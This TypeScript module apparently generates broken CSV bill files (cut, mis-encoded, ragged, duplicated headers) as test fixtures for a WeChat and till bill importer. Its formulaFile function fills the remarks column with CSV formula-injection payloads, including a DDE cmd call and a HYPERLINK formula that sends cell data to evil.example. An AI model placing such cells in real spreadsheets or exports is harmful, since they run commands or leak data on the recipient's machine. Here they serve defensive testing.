import { encodeText, joinBytes } from '../bytes/encode';
import { tillTable, writeTill } from '../files/till';
import { writeWechat } from '../files/wechat';
import { plainStyle, writeText } from '../text/write-text';
import type { Truth } from '../truth';
import type { BadFile } from './bad-file';

const utf8 = (text: string) => encodeText(text, 'utf-8');
const text = (bytes: Uint8Array, encoding = 'utf-8') => new TextDecoder(encoding).decode(bytes);
// Spelled out: some platforms decode "windows-1252" as plain Latin-1.
const western = '€\u0081‚ƒ„…†‡ˆ‰Š‹Œ\u008dŽ\u008f\u0090‘’“”•–—˜™š›œ\u009džŸ';
const asWestern = (bytes: Uint8Array) =>
  Array.from(bytes, (byte) =>
    byte >= 0x80 && byte < 0xa0 ? western.charAt(byte - 0x80) : String.fromCharCode(byte),
  ).join('');
const half = (bytes: Uint8Array) => bytes.slice(0, Math.floor(bytes.length / 2));

/** Exports that were cut, opened in the wrong code page, joined, or stripped. `rows` as a shop makes them. */
export function brokenTexts(rows: readonly Truth[]): BadFile[] {
  const wechat = writeWechat(rows);
  const till = writeTill(rows);
  const lines = text(wechat.bytes).split('\r\n');
  const first = rows.slice(0, Math.floor(rows.length / 2));
  const second = rows.slice(first.length);
  const name = 'wechat.csv';
  // The first byte of a three-byte character: 交 cut after E4.
  const inCharacter = joinBytes([half(wechat.bytes), Uint8Array.of(0xe4)]);
  const mixed = () => {
    const table = tillTable(rows, { title: false, total: false }).table;
    const part = (from: number, to: number, encoding: 'gbk' | 'utf-8') =>
      writeText(
        { ...table, header: from ? [] : table.header, rows: table.rows.slice(from, to) },
        { ...plainStyle, encoding },
      );
    const middle = Math.floor(table.rows.length / 2);
    return joinBytes([part(0, middle, 'gbk'), part(middle, table.rows.length, 'utf-8')]);
  };
  const file = (
    key: string,
    what: string,
    make: () => Uint8Array,
    truth: BadFile['truth'] = null,
    called = name,
  ): BadFile => ({
    key,
    what,
    make,
    truth,
    name: called,
  });
  return [
    file('truncated', 'cut in the middle of a row and of a character, so its summary is gone', () => inCharacter),
    file(
      'truncated-last-line',
      'the values under the summary header are missing',
      () => utf8(lines.slice(0, -2).join('\r\n')),
      wechat.truth,
    ),
    file('mojibake-gbk', 'UTF-8 that was opened as GBK and saved: 浜ゆ槗鏃堕棿', () => utf8(text(wechat.bytes, 'gbk'))),
    file('mojibake-latin', 'UTF-8 that was opened as Western and saved: äº¤æ˜“æ—¶é—´', () =>
      utf8(asWestern(wechat.bytes)),
    ),
    file('question-marks', 'saved in a code page without Chinese: every character is a question mark', () =>
      utf8(text(till.bytes, 'gbk').replace(/[^\r\n -~]/g, '?')),
    ),
    file('mixed-encodings', 'the first half GBK, the second half UTF-8', mixed, tillTable(rows).truth, 'till.csv'),
    file('no-header', 'the details without the header line', () => utf8(lines.slice(1).join('\r\n')), wechat.truth),
    file(
      'two-headers',
      'two bills pasted together, headers and summaries and all',
      () => joinBytes([writeWechat(first).bytes, writeWechat(second).bytes]),
      wechat.truth,
    ),
    file('header-only', 'a header and nothing under it', () => utf8(`${lines[0]}\r\n`), []),
    file('summary-only', 'a bill of an empty day', () => writeWechat([]).bytes, []),
    file('no-bill', 'the answer of the API instead of the bill', () =>
      utf8(
        '<xml><return_code><![CDATA[FAIL]]></return_code><return_msg><![CDATA[No Bill Exist]]></return_msg><error_code>20002</error_code></xml>',
      ),
    ),
    file('open-quote', 'a quote that is never closed', () => utf8(`${lines[0]}\r\n"${lines.slice(1).join('\r\n')}`)),
    file('ragged', 'every third row is short of its last five columns', () =>
      utf8(lines.map((line, nth) => (nth % 3 === 1 ? line.split(',').slice(0, -5).join() : line)).join('\r\n')),
    ),
    file(
      'zero-bytes',
      'a zero byte after every line, as some tills write',
      () => utf8(lines.join('\r\n\0')),
      wechat.truth,
    ),
  ];
}

/** Cells a spreadsheet would run, in the places of names and remarks; the amounts are true. */
export function formulaFile(rows: readonly Truth[]): BadFile {
  const { table, truth } = tillTable(rows, { guard: 'formula', title: false });
  const evil = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"点此")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
  ] as const;
  const header = table.header.map((line) => [...line, '备注']);
  const lines = table.rows.map((row, nth) => [...row, evil[nth % evil.length] ?? '']);
  return {
    key: 'formulas',
    name: 'formulas.csv',
    what: 'formulas in the remarks, and every number kept as ="…"',
    make: () => writeText({ ...table, header, rows: lines }, plainStyle),
    truth,
  };
}
